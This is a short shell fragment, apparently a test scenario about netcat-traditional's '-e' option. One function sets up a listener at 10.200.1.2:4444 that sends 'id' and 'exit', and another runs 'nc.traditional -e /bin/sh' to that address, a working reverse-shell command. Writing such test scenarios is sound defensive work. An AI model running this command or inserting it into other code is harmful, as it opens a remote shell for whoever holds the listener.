# nc -e of Debian's netcat-traditional.
peers() { (echo id; echo exit) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { timeout 5 nc.traditional -e /bin/sh 10.200.1.2 4444; }
